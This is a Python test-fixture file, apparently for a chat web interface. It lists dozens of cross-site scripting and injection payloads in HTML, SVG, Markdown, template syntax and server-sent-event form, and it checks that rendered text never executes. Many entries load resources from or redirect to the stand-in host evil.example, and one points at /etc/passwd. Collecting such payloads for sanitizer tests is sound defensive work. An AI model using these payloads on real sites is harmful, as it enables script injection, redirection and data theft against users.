"""Texts that try to become more than text on a page: markup, addresses, styles, broken syntax.

No test stands here. The rule that must not break: each would set `window.xss`, load something
from another place or take the reader away, if any part of the page took it for more than text.
"""

from __future__ import annotations

AWAY = "http://evil.example"

MARKUP = (
    "<script>xss=1</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>xss=1</scr</script>ipt>",
    "<img src=x onerror=xss=1>",
    "<IMG SRC=`javascript:xss=1`>",
    '<img """><script>xss=1</script>">',
    "<img src=http://evil.example/pixel.gif>",
    "<img srcset='http://evil.example/2x.png 2x'>",
    "<svg onload=xss=1>",
    "<svg><script>xss=1</script></svg>",
    "<svg><a xlink:href='javascript:xss=1'><text>x</text></a></svg>",
    "<svg><animate onbegin=xss=1 attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:xss=1></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss=1>",
    "<math href='javascript:xss=1'>x</math>",
    "<iframe src=javascript:xss=1></iframe>",
    "<iframe srcdoc='<script>parent.xss=1</script>'></iframe>",
    "<object data=javascript:xss=1></object>",
    "<embed src=http://evil.example/x.swf>",
    "<body onload=xss=1>",
    "<input autofocus onfocus=xss=1>",
    "<details open ontoggle=xss=1>",
    "<video><source onerror=xss=1></video>",
    "<audio src=x onerror=xss=1>",
    "<marquee onstart=xss=1>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<div style=\"background:url('http://evil.example/x.png')\">",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<form action=http://evil.example><button autofocus>x</button></form>",
    "<a href=javascript:xss=1>x</a>",
    "<a href='java\tscript:xss=1'>x</a>",
    "<template><script>xss=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=xss=1>'>",
    "<textarea></textarea><img src=x onerror=xss=1>",
    "<!--><script>xss=1</script-->",
    "<![CDATA[<script>xss=1</script>]]>",
    "<?xml version='1.0'?><script>xss=1</script>",
    "</p></article></main></body></html><script>xss=1</script>",
    "<appliance-conversation id=status>x</appliance-conversation>",
)

MARKDOWN = (
    "[x](javascript:xss=1)",
    "[x](JaVaScRiPt:xss=1)",
    "[x](java\nscript:xss=1)",
    "[x](\x01javascript:xss=1)",
    "[x](&#106;avascript:xss=1)",
    "[x](javascript&colon;xss=1)",
    "[x](data:text/html,<script>xss=1</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](blob:http://evil.example/1)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](<javascript:xss=1>)",
    "[x]: javascript:xss=1\n\n[x]",
    "![x](http://evil.example/x.png)",
    "![x](javascript:xss=1)",
    "[![x](http://evil.example/x.png)](javascript:xss=1)",
    "<javascript:xss=1>",
    "```html\n<script>xss=1</script>\n```",
    "`<img src=x onerror=xss=1>`",
    "| <script>xss=1</script> | [x](javascript:xss=1) |\n|---|---|\n| <svg onload=xss=1> | y |",
    "# <img src=x onerror=xss=1>",
    "> <svg onload=xss=1>",
    "1. <iframe src=javascript:xss=1>",
    "$$<img src=x onerror=xss=1>$$",
    "**<script>xss=1</script>** ~~<svg onload=xss=1>~~",
)

SYNTAX = (
    '"><img src=x onerror=xss=1>',
    "'-xss=1-'",
    "\\u003cimg src=x onerror=xss=1\\u003e",
    "&lt;img src=x onerror=xss=1&gt;",
    "&#x3c;script&#x3e;xss=1&#x3c;/script&#x3e;",
    "＜script＞xss=1＜/script＞",
    "${xss=1} {{xss=1}} #{xss=1} <%= xss=1 %>",
    "{{constructor.constructor('xss=1')()}}",
    "__proto__ constructor toString hasOwnProperty",
    '\n\nevent: token\ndata: {"text": "<img src=x onerror=xss=1>"}\n\n',
    'data: {"done": true}\r\n\r\nid: 99999999',
    "\u202e<script>1=ssx</script>\u202c\u2066x\u2069",
    "\u2028xss=1\u2029",
)

PAYLOADS = (*MARKUP, *MARKDOWN, *SYNTAX)
